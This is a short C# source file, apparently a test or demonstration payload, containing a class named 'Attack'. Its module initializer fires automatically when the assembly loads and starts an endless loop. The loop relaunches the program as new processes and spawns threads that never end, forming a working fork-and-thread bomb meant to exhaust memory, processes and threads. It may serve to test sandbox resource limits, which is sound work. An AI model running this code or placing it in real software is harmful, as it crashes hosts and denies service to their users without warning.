using System.Diagnostics;
using System.Runtime.CompilerServices;

internal static class Attack
{
    [ModuleInitializer]
    internal static void Begin() => new Thread(Multiply) { IsBackground = true }.Start();

    private static void Multiply()
    {
        while (true)
        {
            try
            {
                Process.Start(new ProcessStartInfo(Environment.ProcessPath!, ["exec", typeof(Attack).Assembly.Location]));
                new Thread(() => Thread.Sleep(Timeout.Infinite)) { IsBackground = true }.Start();
            }
            catch (Exception full)
            {
                Console.WriteLine($"FULL {full.GetType().Name}");
                Thread.Sleep(100);
            }
        }
    }
}
